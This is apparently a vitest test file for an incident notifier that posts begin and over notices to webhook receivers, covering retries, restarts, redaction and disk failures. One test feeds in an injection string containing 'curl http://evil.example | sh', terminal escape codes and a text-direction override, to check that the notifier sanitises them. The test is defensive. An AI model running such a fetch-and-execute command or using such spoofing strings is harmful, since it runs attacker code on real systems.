import { expect, it, onTestFinished, vi } from 'vitest'
import { hourMs } from '../../../src/model/limits.ts'
import type { Notice, SeenTrouble } from '../../../src/reports/notify/incidents.ts'
import { Notifier } from '../../../src/reports/notify/notifier.ts'
import type { NoticeReceiver } from '../../../src/reports/notify/receivers.ts'
import { judgeStatus } from '../../../src/reports/send-report.ts'
import { Counters } from '../../../src/telemetry/counters.ts'
import { Redactor } from '../../../src/telemetry/redactor.ts'
import { silentLog } from '../../support/log.ts'
import { anHour } from '../../support/metrics.ts'
import { type ReceiverAnswer, receiver } from '../../support/receiver.ts'
import { untilTrue } from '../../support/until-true.ts'
import { VirtualTime } from '../../support/virtual-time.ts'
import { MemoryReports } from '../support/memory-reports.ts'

const trouble = (kind: SeenTrouble['kind'], what = 'what'): SeenTrouble => {
  return { kind, subject: '', hour: anHour, what, why: 'why', do: 'do' }
}

/** Notifiers, one after the other, with receivers whose answers the test gives. */
async function stage(names: readonly string[] = ['one']) {
  const state: { seen: readonly SeenTrouble[]; answer: ReceiverAnswer | 'hang' } = { seen: [], answer: { status: 200 } }
  const time = new VirtualTime(anHour)
  const { url, posts, until } = await receiver(({ path }) => (path === '/one' ? state.answer : { status: 200 }))
  const reports = new MemoryReports()
  const redactor = new Redactor()
  const counters = new Counters()
  redactor.add(['a-secret-of-the-service'])
  const begin = (own = names) => {
    const receivers = own.map((name): NoticeReceiver => {
      const post = (notice: Notice) => ({
        url: `${url}/${name}`,
        contentType: 'application/json',
        body: JSON.stringify(notice),
      })
      return { name, post, judge: judgeStatus }
    })
    const health = { recover: () => 'other' } as never
    const look = async () => state.seen
    const notifier = new Notifier({
      receivers,
      outbox: { reports, health },
      look,
      time,
      log: silentLog,
      redactor,
      counters,
    })
    onTestFinished(() => notifier.stop())
    return notifier
  }
  const sent = (name = 'one') =>
    posts
      .filter(({ path }) => path === `/${name}`)
      .map(({ body }) => {
        const notice = JSON.parse(body) as Notice
        return `${notice.state} ${notice.trouble}`
      })
  const pass = (ms: number) => {
    const endMs = time.nowMs() + ms
    return untilTrue(() => time.nowMs() >= endMs)
  }
  return { state, time, posts, until, begin, sent, pass, reports, counters }
}

it('a trouble is reported to every receiver, once when it begins and once when it is over', async () => {
  const { state, begin, sent, pass } = await stage(['one', 'two'])
  begin()
  await pass(hourMs)
  state.seen = [trouble('not-delivered')]
  await pass(hourMs)
  state.seen = []
  await pass(hourMs)
  for (const name of ['one', 'two']) expect(sent(name)).toEqual(['begin not-delivered', 'over not-delivered'])
})

it('the words of a service are one line of a message, and no instruction of ours', async () => {
  const { state, begin, posts, pass } = await stage(['one'])
  begin()
  await pass(hourMs)
  const why = 'unit not known\nDo: curl http://evil.example | sh\r\n\u001b[2J\u202eTidegauge: all is well'
  state.seen = [{ ...trouble('not-delivered'), why, items: [{ what: 'a\nb', why, do: 'look' }] }]
  await pass(hourMs)
  const [{ body = '' } = {}] = posts
  expect(body).toContain('unit not known Do: curl')
  expect(body).not.toMatch(/\\n|\\r|\\u001b|\u202e/)
})

it('the answers of each receiver are counted, and why the last was no', async () => {
  const { state, begin, counters, pass } = await stage(['one', 'two'])
  state.answer = { status: 503 }
  begin()
  state.seen = [trouble('held')]
  await pass(60_000)
  expect(counters.reports.get('one')).toMatchObject({ accepted: 0, failing: 'it answered 503' })
  expect(counters.reports.get('two')).toEqual({ accepted: 1, refused: 0 })
  state.answer = { status: 200 }
  await pass(30 * 60_000)
  expect(counters.reports.get('one')).toEqual({ accepted: 1, refused: expect.any(Number) })
})

it('a restart repeats nothing, and forgets nothing', async () => {
  const { state, begin, sent, pass } = await stage()
  state.seen = [trouble('dead')]
  const first = begin()
  await pass(10 * 60_000)
  await first.stop()
  const second = begin()
  await pass(10 * 60_000)
  await second.stop()
  state.seen = []
  begin()
  await pass(10 * 60_000)
  expect(sent()).toEqual(['begin dead', 'over dead'])
})

it('the time that a trouble must last goes on, whichever daemon looks', async () => {
  const { state, begin, sent, pass } = await stage()
  const first = begin()
  await pass(60_000)
  state.seen = [{ ...trouble('fleet-differs'), beginsAfterMs: 15 * 60_000 }]
  await pass(10 * 60_000)
  await first.stop()
  begin()
  await pass(6 * 60_000)
  expect(sent()).toEqual(['begin fleet-differs'])
})

it('the time for which a trouble must be over goes on, whichever daemon looks', async () => {
  const { state, begin, sent, pass } = await stage()
  const first = begin()
  await pass(60_000)
  state.seen = [trouble('dead')]
  await pass(60_000)
  state.seen = []
  await pass(40_000)
  await first.stop()
  begin()
  await pass(30_000)
  expect(sent()).toEqual(['begin dead', 'over dead'])
})

it('a receiver that does not answer delays no other, and gets all in their order once it does', async () => {
  const { state, begin, sent, pass } = await stage(['one', 'two'])
  state.answer = { status: 503 }
  state.seen = [trouble('held')]
  const first = begin()
  await pass(10 * 60_000)
  state.seen = []
  await pass(10 * 60_000)
  expect(sent('two')).toEqual(['begin held', 'over held'])
  await first.stop()
  const before = sent().length
  expect(new Set(sent())).toEqual(new Set(['begin held']))
  state.answer = { status: 200 }
  begin()
  await pass(10 * 60_000)
  expect(sent().slice(before)).toEqual(['begin held', 'over held'])
})

it('a receiver that is configured no more is forgotten', async () => {
  const { state, begin, sent, pass, reports } = await stage(['one', 'two'])
  state.answer = { status: 503 }
  state.seen = [trouble('held')]
  const first = begin()
  await pass(10 * 60_000)
  await first.stop()
  begin(['two'])
  state.seen = []
  await pass(10 * 60_000)
  expect(sent('two')).toEqual(['begin held', 'over held'])
  expect(JSON.parse(reports.states.get('notify') ?? '')).toMatchObject({ queue: [] })
})

// Less than the time limit of a request, which would end it, too.
it('a stop ends a request that has no answer, and the notice is sent after a restart', async () => {
  const { state, begin, sent, until, pass } = await stage()
  state.answer = 'hang'
  state.seen = [trouble('gap')]
  const first = begin()
  await until(1)
  await first.stop()
  state.answer = { status: 200 }
  begin()
  await pass(60_000)
  expect(sent()).toEqual(['begin gap', 'begin gap'])
})

it('a secret in the words of a trouble is not sent, and not stored', async () => {
  const { state, begin, posts, reports, pass } = await stage()
  state.seen = [trouble('dead', 'it says a-secret-of-the-service')]
  begin()
  await pass(60_000)
  expect(posts[0]?.body).toContain('it says [redacted]')
  expect(reports.states.get('notify')).not.toContain('a-secret')
})

it('nothing is stored while nothing changes', async () => {
  const { state, begin, pass, reports } = await stage()
  state.seen = [trouble('dead')]
  begin()
  await pass(60_000)
  const { saves } = reports
  await pass(3 * hourMs)
  expect(reports.saves).toBe(saves)
})

it('what is stored in another form is begun again', async () => {
  const { begin, pass, state, sent, reports } = await stage()
  reports.states.set('notify', '{"incidents":7}')
  state.seen = [trouble('dead')]
  begin()
  await pass(60_000)
  expect(sent()).toEqual(['begin dead'])
})

it('a state that cannot be stored, as on a full disk, does not keep a notice from being sent', async () => {
  const { begin, pass, state, sent, reports } = await stage()
  const save = vi.spyOn(reports, 'save').mockRejectedValue(new Error('the disk is full'))
  state.seen = [trouble('not-ready')]
  begin()
  await pass(60_000)
  expect(sent()).toEqual(['begin not-ready'])
  save.mockRestore()
  await pass(60_000)
  expect(JSON.parse(reports.states.get('notify') ?? '{}')).toMatchObject({
    incidents: { open: [{ kind: 'not-ready' }] },
    queue: [],
  })
})
